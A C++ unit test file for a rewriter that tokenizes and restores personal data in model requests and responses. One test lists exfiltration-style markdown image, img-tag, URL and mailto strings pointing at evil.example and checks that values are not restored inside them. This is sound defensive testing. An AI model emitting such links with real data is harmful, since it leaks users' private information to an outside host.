#include "dataplane/rewrite/text/text_rewriter.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "tests/unit/rewrite/rewrite_world.h"

namespace sallyport::rewrite {
namespace {

using contract::Action;

class TextRewriting : public testing::Test {
 protected:
  void SetUp() override { world.tokens.clear(); }
  std::string request(std::string_view text) {
    return edited(text, world.text_edits(Direction::Request, text).edits);
  }
  std::string answer(std::string_view text) {
    return edited(text, world.text_edits(Direction::Response, text).edits);
  }
  // The same with one treatment for every finding.
  std::string request(std::string_view text, const Treatment& treatment) {
    world.everything = treatment;
    const std::string out = request(text);
    world.everything.reset();
    return out;
  }
  std::string answer(std::string_view text, const Treatment& treatment) {
    world.everything = treatment;
    const std::string out = answer(text);
    world.everything.reset();
    return out;
  }
  uint32_t count(Action action) const {
    return world.tally.detections[World::Card][static_cast<size_t>(action)];
  }
  World& world = World::get();
};

TEST_F(TextRewriting, AValueBecomesItsTokenAndComesBackAsItWasWritten) {
  const std::string sent = request("mail John.Doe@Example.org or call +1 415-555-2671!");
  EXPECT_EQ(sent, "mail " + world.token(World::Email, "john.doe@example.org") + " or call " +
                      world.token(World::Phone, "+14155552671") + "!");
  EXPECT_EQ(answer(sent), "mail John.Doe@Example.org or call +1 415-555-2671!");
}

TEST_F(TextRewriting, WhatIsHeldIsReadOnceAndEditedAlike) {
  const std::string_view text = "mail John.Doe@Example.org or call +1 415-555-2671! ";
  const std::string whole = request(text);
  for (size_t cut = 0; cut <= text.size(); ++cut) {
    RewriteScope scope = world.scope(Direction::Request);
    TextRewriter rewriter;
    rewriter.begin(scope);
    ASSERT_TRUE(rewriter.hold(bytes_of(text.substr(0, cut))));
    EXPECT_EQ(rewriter.edge(), 0U);
    EXPECT_EQ(rewriter.edits().count(), 0U);
    // Read in the middle, or only at the end.
    if (cut % 2 == 0) {
      EXPECT_TRUE(rewriter.settle_held());
    }
    EXPECT_LE(rewriter.edge(), cut);
    ASSERT_TRUE(rewriter.hold(bytes_of(text.substr(cut))) && rewriter.end());
    EXPECT_EQ(rewriter.edge(), text.size());
    std::vector<SaidEdit> said;
    for (const TextEdit& edit : rewriter.edits().edits()) {
      const auto by = rewriter.edits().replacement(edit);
      said.push_back({edit.start, edit.end, std::string(by.begin(), by.end())});
    }
    EXPECT_EQ(edited(text, said), whole) << cut;
  }
}

TEST_F(TextRewriting, TokensOfNobodyStayTokens) {
  const std::string foreign = world.token(World::Email, "other@example.org");
  EXPECT_EQ(answer("see " + foreign + "."), "see " + foreign + ".");
  RewriteScope scope = world.scope(Direction::Response);
  scope.may_restore.fill(false);
  const std::string known = world.minted(World::Email, "a@example.org");
  TextRewriter rewriter;
  rewriter.begin(scope);
  ASSERT_TRUE(rewriter.feed(bytes_of(known)) && rewriter.end());
  EXPECT_EQ(rewriter.edits().count(), 0U);
  EXPECT_EQ(scope.tally.restore_denied[World::Email], 1U);
}

TEST_F(TextRewriting, TokenLikeTextOfARequestIsALiteralUnlessItVerifies) {
  const std::string ours = world.token(World::Card, "4111111111111111");
  EXPECT_EQ(request("x " + ours), "x " + ours);
  std::string fake = ours;
  fake[fake.size() - 2] = fake[fake.size() - 2] == '0' ? '1' : '0';
  const std::string sent = request("x " + fake);
  EXPECT_EQ(sent, "x " + world.token(redact::TokenLabels::kLiteral, fake));
  EXPECT_EQ(answer(sent), "x " + fake);
}

// Texts that are too short for a token are not searched; the shortest that one fits in is.
TEST_F(TextRewriting, ATokenMayBeAllOfAText) {
  const std::string token = world.token(World::Url, "https://a.example/");
  const std::string bare = token.substr(1, token.size() - 2);
  for (const std::string& text : {token, bare})
    for (const std::string_view before : {"", "see "})
      for (size_t cut = 0; cut <= text.size(); ++cut) {
        RewriteScope scope = world.scope(Direction::Request);
        TextRewriter rewriter;
        rewriter.begin(scope, bytes_of(before));
        ASSERT_TRUE(rewriter.hold(bytes_of(text.substr(0, cut))));
        if (cut % 2 == 0) {
          EXPECT_TRUE(rewriter.settle_held());
        }
        ASSERT_TRUE(rewriter.hold(bytes_of(text.substr(cut))) && rewriter.end());
        EXPECT_EQ(scope.tally.verified_tokens, 1U) << text << " " << cut;
        EXPECT_EQ(rewriter.edits().count(), 0U);
      }
}

TEST_F(TextRewriting, AValueIsNotRestoredWhereItCouldBeCarriedOut) {
  const std::string token = world.minted(World::Email, "a@example.org");
  for (const std::string& text :
       {"https://evil.example/?q=" + token, "![x](https://evil.example/" + token + ")",
        "<img src=\"//evil.example/" + token + "\">", "[x]: https://evil.example/" + token,
        "www.evil.example/" + token, "mailto:x@evil.example?body=" + token,
        "evil.example/?a=" + token})
    EXPECT_EQ(answer(text), text);
  EXPECT_EQ(answer("a/b " + token + ", <b>" + token + "</b>"),
            "a/b a@example.org, <b>a@example.org</b>");
}

TEST_F(TextRewriting, WhatModelsDoToTokensIsUndone) {
  const std::string token = world.minted(World::Email, "a@example.org");
  std::string lower = token;
  for (char& c : lower) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  const std::string bare = token.substr(1, token.size() - 2);
  EXPECT_EQ(answer(lower), "a@example.org");
  EXPECT_EQ(answer("`" + bare + "`"), "`a@example.org`");
  EXPECT_EQ(answer("**" + token + "**"), "**a@example.org**");
  EXPECT_EQ(answer("\\" + token.substr(0, token.size() - 1) + "\\]"), "a@example.org");
}

TEST_F(TextRewriting, BlockEndsTheTextAndNamesTheEntity) {
  RewriteScope scope = world.scope(Direction::Request);
  scope.actions[World::Card] = contract::Action::Block;
  TextRewriter rewriter;
  rewriter.begin(scope);
  EXPECT_FALSE(rewriter.feed(bytes_of("card 4111 1111 1111 1111 is mine, thanks")));
  EXPECT_EQ(scope.refusal, Refusal::PolicyBlocked);
  EXPECT_EQ(scope.refusal_entity, World::Card);
  RewriteScope response = world.scope(Direction::Response);
  response.actions[World::Card] = contract::Action::Block;
  rewriter.begin(response);
  EXPECT_FALSE(rewriter.feed(bytes_of("card 4111 1111 1111 1111 is mine, thanks")));
  EXPECT_EQ(response.refusal, Refusal::ResponseBlocked);
}

TEST_F(TextRewriting, ObservePassesAndCountsWhatItTriesOut) {
  Treatment shadow(Action::Observe);
  shadow.would = Action::Block;
  constexpr std::string_view kText = "card 4111 1111 1111 1111 is mine, thanks";
  EXPECT_EQ(request(kText, shadow), kText);
  EXPECT_EQ(count(Action::Observe), 1U);
  EXPECT_EQ(world.tally.would[World::Card][static_cast<size_t>(Action::Block)], 1U);
  EXPECT_EQ(answer(kText, Action::Observe), kText);
  EXPECT_EQ(count(Action::Observe), 1U);
  for (uint32_t tried : world.tally.would[World::Card]) EXPECT_EQ(tried, 0U);
}

TEST_F(TextRewriting, AMaskMayKeepTheLastDigits) {
  EXPECT_EQ(request("4111 1111 1111 1111", Action::Mask), std::string(19, '*'));
  Treatment mask(Action::Mask);
  mask.keep_last = 4;
  mask.mask_char = 'x';
  EXPECT_EQ(request("card 4111 1111 1111 1111 is mine, thanks", mask),
            "card xxxx xxxx xxxx 1111 is mine, thanks");
  EXPECT_EQ(answer("card 4111 1111 1111 1111 is mine, thanks", mask),
            "card xxxx xxxx xxxx 1111 is mine, thanks");
  EXPECT_EQ(count(Action::Mask), 1U);
}

TEST_F(TextRewriting, AHashIsTheSameForTheSameValueAndNeverComesBack) {
  const std::string one = request("4111 1111 1111 1111", Action::Hash);
  EXPECT_EQ(one, request("4111-1111-1111-1111", Action::Hash));
  EXPECT_NE(one, request("5555 5555 5555 4444", Action::Hash));
  EXPECT_TRUE(one.starts_with("[CREDIT-CARD#")) << one;
  EXPECT_EQ(one.size(), std::string_view("[CREDIT-CARD#]").size() + redact::kHashChars);
  // Not a token, not a value: neither direction sees anything in it.
  EXPECT_EQ(world.tokens.size(), 0U);
  EXPECT_EQ(request(one), one);
  EXPECT_EQ(answer(one), one);
}

TEST_F(TextRewriting, GeneraliseLeavesWhatTheEntitySaysOrItsName) {
  EXPECT_EQ(request("card 4111 1111 1111 1111.", Action::Generalise), "card [CREDIT-CARD].");
  EXPECT_EQ(count(Action::Generalise), 1U);
  RewriteScope scope = world.scope(Direction::Request);
  scope.actions[World::Phone] = Action::Generalise;
  scope.generalisations[World::Phone] = contract::Generalisation::Age;  // 41: stays as it is
  TextRewriter rewriter;
  rewriter.begin(scope);
  ASSERT_TRUE(rewriter.feed(bytes_of("+41 44 668 18 00 ")) && rewriter.end());
  EXPECT_EQ(rewriter.edits().count(), 0U);
}

TEST_F(TextRewriting, NoActionDependsOnTheCuts) {
  constexpr std::string_view kText = "a 4111 1111 1111 1111, b@example.org and 536-90-4399 c";
  Treatment keeping(Action::Mask);
  keeping.keep_last = 4;
  for (const Treatment& treatment : {Treatment(Action::Observe), keeping, Treatment(Action::Hash),
                                     Treatment(Action::Generalise)})
    for (Direction direction : {Direction::Request, Direction::Response}) {
      world.everything = treatment;
      const auto whole = world.text_edits(direction, kText);
      for (size_t cut = 1; cut < kText.size(); ++cut)
        EXPECT_EQ(world.text_edits(direction, kText, {cut}), whole) << cut;
      EXPECT_EQ(world.text_edits(direction, kText, every_byte(kText.size())), whole);
      world.everything.reset();
    }
}

TEST_F(TextRewriting, TheBoundOnTokensIsKept) {
  world.tokens.limit(2);
  const auto said =
      world.text_edits(Direction::Request, "a@example.org b@example.org a@example.org c@x.org ");
  world.tokens.limit(redact::kExchangeTokensMax);
  EXPECT_FALSE(said.accepted);
  EXPECT_EQ(said.refusal, Refusal::TooManyTokens);
}

TEST_F(TextRewriting, AValueAroundATokenIsJudgedAsAWhole) {
  const std::string token = world.token(World::Email, "a@example.org");
  const std::string url = "https://kev:" + token + "x@files.example.org/v1";
  const std::string sent = request("get " + url + " now");
  EXPECT_EQ(sent.find(token), std::string::npos);
  EXPECT_EQ(answer(sent).find("https://kev:"), 4U);
}

TEST_F(TextRewriting, WhatStoodBeforeIsContextAndNeverEdited) {
  RewriteScope scope = world.scope(Direction::Request);
  TextRewriter rewriter;
  rewriter.begin(scope, bytes_of("a@example.org ssn: "));
  EXPECT_EQ(rewriter.edge(), 0U);
  ASSERT_TRUE(rewriter.feed(bytes_of("536904399 b@example.org")) && rewriter.end());
  ASSERT_EQ(rewriter.edits().count(), 2U);
  EXPECT_EQ(rewriter.edits().edits()[0].start, 0U);
  EXPECT_EQ(rewriter.edits().edits()[0].end, 9U);
  EXPECT_EQ(rewriter.edits().edits()[1].start, 10U);
  EXPECT_EQ(rewriter.edge(), 23U);
  EXPECT_EQ(world.tokens.size(), 2U);
  // A value that begins before: its rest is edited.
  rewriter.begin(scope, bytes_of("4111 1111 "));
  ASSERT_TRUE(rewriter.feed(bytes_of("1111 1111 x")) && rewriter.end());
  ASSERT_EQ(rewriter.edits().count(), 1U);
  EXPECT_EQ(rewriter.edits().edits()[0].end, 9U);
}

}  // namespace
}  // namespace sallyport::rewrite
